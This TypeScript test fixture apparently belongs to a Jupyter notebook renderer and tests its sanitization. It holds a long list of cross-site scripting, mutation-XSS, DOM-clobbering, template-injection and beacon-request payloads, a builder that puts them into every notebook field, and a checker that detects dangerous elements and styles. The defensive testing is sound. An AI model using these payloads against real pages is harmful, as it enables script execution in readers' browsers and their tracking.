/**
 * What a stranger may put into a notebook to run script in its readers' browsers or to be told that
 * they read it, and a way to see whether anything of it is left in a page.
 */

import type { Notebook, Output } from "../../lib/jupyter/notebook.ts";
import { code, display, markdown, notebook, raw, stream } from "./notebooks.ts";

/** Reports that it ran, for tests in a browser. */
const RUN = "alert(1)";
/** No such host exists; tests in a browser see whether it is asked for. */
const BEACON = "https://beacon.invalid";

/** HTML, SVG and MathML with something in it that must not happen. */
export const HTML_PAYLOADS = [
  // Script, plainly.
  `<script>${RUN}</script>`,
  `<ScRiPt src="${BEACON}/a.js"></sCrIpT>`,
  `<script type="module">import "${BEACON}/m.js"</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  // Handlers.
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<IMG SRC=x OnErRoR='${RUN}'>`,
  `<body onload=${RUN}>`,
  `<p onmouseover="${RUN}" onfocus=${RUN} tabindex=0 autofocus>x</p>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video autoplay onloadstart=${RUN} src="${BEACON}/v.mp4"><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  // Addresses.
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript&colon;${RUN}">x</a>`,
  `<a href="&#1;javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:x" ping="${BEACON}/ping">x</a>`,
  // Frames, forms, and the head's business.
  `<iframe src="javascript:parent.${RUN}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${BEACON}/o"></object><embed src="${BEACON}/e">`,
  `<form action="javascript:${RUN}"><input name=x autofocus onfocus=${RUN}><button>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=f>x</button><isindex action=javascript:${RUN}>`,
  `<base href="${BEACON}/">`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}/refresh">`,
  `<link rel="stylesheet" href="${BEACON}/l.css"><link rel=prefetch href="${BEACON}/p">`,
  // Requests from styles and images.
  `<style>@import "${BEACON}/i.css"; body { background: url(${BEACON}/b.png) }</style>`,
  `<p style="background:url(${BEACON}/s.png)">x</p>`,
  `<p style="background:u\\72l('${BEACON}/s2.png');position:fixed;inset:0">x</p>`,
  `<p style="background-image:image-set('${BEACON}/s3.png' 1x)">x</p>`,
  `<img src="${BEACON}/i.png" srcset="${BEACON}/i2.png 2x" loading=eager>`,
  `<picture><source srcset="${BEACON}/ps.png"><img src="${BEACON}/pi.png"></picture>`,
  `<table background="${BEACON}/t.png"><tr><td background="${BEACON}/td.png">x</td></tr></table>`,
  // SVG.
  `<svg onload=${RUN}><g onclick=${RUN}></g></svg>`,
  `<svg><script>${RUN}</script><script href="${BEACON}/svg.js"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN} /><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><image href="${BEACON}/image.png"/><feImage href="${BEACON}/fe.png"/></svg>`,
  `<svg><rect fill="url(${BEACON}/f.svg#a)" filter="url('${BEACON}/g.svg#a')" style="mask:url(${BEACON}/h)"/></svg>`,
  `<svg><style>@import url(${BEACON}/svg.css); rect { fill: url(${BEACON}/r.svg#a) } </style><rect/></svg>`,
  `<svg><style>g{}</style><style>} body { display: none } </style><g/></svg>`,
  // What a parser changes when it reads its own output again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math href="javascript:${RUN}"><maction actiontype="statusline#${BEACON}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<table><caption><svg><title><table><caption></caption></table><style><a id="</style><img src=x onerror=${RUN}>"></style></title></svg></caption></table>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<a id="x\`"><xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template><div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  // Out of the place where it was put.
  `"><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</style></script></textarea></noscript><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `</code></pre></div></main></body></html><script>${RUN}</script>`,
  // Names that shadow what the page's script uses.
  `<img name=querySelector><img name=body><form name=documentElement></form><a id=localStorage></a>`,
  `<a id=content></a><i id=contents></i><fieldset class=page-theme><input></fieldset><b class=page-copy>x</b>`,
];

/** What is harmless as HTML, and may come to life as Markdown, XML, a formula or in a template. */
const OTHER_PAYLOADS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt&#58;${RUN})`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](x" onerror="${RUN})`,
  `[x][r]\n\n[r]: javascript:${RUN} "onclick=${RUN}"`,
  `![x](${BEACON}/md.png) <input type=image src="${BEACON}/input.png">`,
  `'-${RUN}-'`,
  `<svg><![CDATA[<img src=x onerror=${RUN}>]]></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]><svg>&x;</svg>`,
  `]]><script>${RUN}</script>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}}`,
  `$\\href{javascript:${RUN}}{x}$ $\\includegraphics{${BEACON}/tex.png}$ $\\text{<img src=x onerror=${RUN}>}$`,
  `$$<img src=x onerror=${RUN}>$$`,
  `\x1b]8;;javascript:${RUN}\x07x\x1b]8;;\x07\x1b[31"><img src=x onerror=${RUN}>m\x1b[0m`,
  `\`\`\`js"><img src=x onerror=${RUN}>\n<img src=x onerror=${RUN}>\n\`\`\``,
];

export const PAYLOADS = [...HTML_PAYLOADS, ...OTHER_PAYLOADS];

/** A notebook with the text in every place that a notebook has for text. */
export function hostileNotebook(text: string): Notebook {
  const rich = (type: string): Output =>
    display({ [type]: text }, { [type]: { alt: text, caption: text } });
  const outputs: Output[] = [
    ...["text/html", "text/markdown", "text/latex", "image/svg+xml", "text/plain"].map(rich),
    ...["image/png", "application/json", text].map(rich),
    display({ "image/svg+xml": "<svg><g/></svg>", "text/plain": text }, {
      "image/svg+xml": { alt: text, caption: text },
    }),
    display({ "image/png": "AAAA", "text/plain": text }),
    stream(text),
    stream(text, text),
    { output_type: "error", ename: text, evalue: text, traceback: [text] },
  ];
  return notebook([
    markdown(text, {
      id: text,
      attachments: { [text]: { "image/png": text, [text]: text } },
      metadata: { tags: [text] },
    }),
    markdown(`# ${text}\n\n## ${text}\n\n![${text}](attachment:${encodeURIComponent(text)})`),
    markdown(`- ${text}\n\n> ${text}\n\n| ${text} |\n|---|\n| ${text} |\n\n$${text}$`),
    code(text, outputs, { id: `${text}2` }),
    code(text, outputs, { execution_count: text as unknown as number }),
    raw(text),
  ], {
    title: text,
    lang: text,
    language_info: { name: text, [text]: text },
    kernelspec: { name: text, display_name: text, language: text },
  });
}

const SAFE_ELEMENTS = /^(?:svg|math|[a-z]+[1-6]?)$/i;

/** Elements that no page may hold, besides the ones of its own frame. */
const FORBIDDEN = "script, style, iframe, frame, object, embed, applet, form, input, button, " +
  "textarea, select, base, meta, link, audio, video, source, track, template, foreignObject, " +
  "animate, set, animateMotion, animateTransform, feImage, portal, noscript, title:not(svg title)";

/** The frame's own: everything else was written by others. */
const OWN = "head > *, .page-side > .page-header > .page-theme input, .page-bar > .page-copy";

/** What in a parsed page could run, load or disguise; nothing, if all is well. */
export function findDangers(document: Document): string[] {
  const dangers: string[] = [];
  const report = (element: Element, why: string) =>
    dangers.push(`${why}: ${element.outerHTML.slice(0, 160)}`);
  if (document.querySelectorAll("head script").length !== 1) {
    dangers.push("not one script in the head");
  }
  if (document.querySelectorAll("body").length !== 1) dangers.push("not one body");
  for (const element of document.querySelectorAll("*")) {
    if (!SAFE_ELEMENTS.test(element.localName) && element.localName.includes("-")) {
      report(element, "custom element");
    }
    const isOwn = element.matches(OWN);
    const isScoped = element.localName === "style" && element.closest("svg") !== null;
    if (element.matches(FORBIDDEN) && !isOwn && !isScoped) report(element, "forbidden element");
    if (isScoped) inspectSheet(element.textContent, (why) => report(element, why));
    for (const { name, value } of element.attributes) {
      inspectAttribute(element, name, value, isOwn, (why) => report(element, why));
    }
  }
  return dangers;
}

function inspectAttribute(
  element: Element,
  name: string,
  value: string,
  isOwn: boolean,
  report: (why: string) => void,
): void {
  if (/^on/i.test(name)) report(`handler ${name}`);
  if (name === "style") inspectCss(value, report);
  if (isOwn) return;
  if (
    /^(?:name|srcset|ping|poster|background|action|formaction|data|srcdoc|target|data-.*)$/.test(
      name,
    )
  ) {
    report(`attribute ${name}`);
  }
  const isTextual = /^(?:alt|title|aria-.*|href|xlink:href|content|class|id)$/.test(name);
  if (!isTextual && name !== "src") inspectCss(value, report);
  if (name === "src" && !/^data:image\/(?:png|jpeg|gif|webp|avif|svg\+xml)[;,]/.test(value)) {
    report("image that is not part of the page");
  }
  if (/href$/.test(name)) {
    const scheme = /^[a-z][a-z0-9+.-]*(?=:)/i.exec(value.replace(/[\0-\x20]/g, ""))?.[0];
    const allowed = element.localName === "a"
      ? scheme === undefined ||
        /^(?:https?|mailto|tel|sms|ftp|callto|cid|xmpp|matrix)$/i.test(scheme)
      : value.startsWith("#");
    if (!allowed) report(`address ${value}`);
  }
}

/** The rules of a drawing begin with the frame that they may not leave. */
function inspectSheet(css: string, report: (why: string) => void): void {
  inspectCss(css, report);
  for (const rule of css.split("}").map((rule) => rule.trim()).filter(Boolean)) {
    const selector = rule.replace(/^@container \([\w:. -]+\) \{ /, "");
    if (!/^:where\(#figure(?:-\d+)?\) /.test(selector)) report("style that leaves its drawing");
  }
}

/** A style may refer to the page itself and to nothing else. */
function inspectCss(css: string, report: (why: string) => void): void {
  const decoded = css.replace(
    /\\([0-9a-f]{1,6})\s?/gi,
    (_, hex) => String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff)),
  );
  if (/url\(\s*["']?(?!#)|@import|image-set\(|src\(|expression\(|-moz-binding/i.test(decoded)) {
    report("style that loads");
  }
  if (/position\s*:\s*(?:fixed|absolute|sticky)/i.test(decoded)) report("style that covers");
}
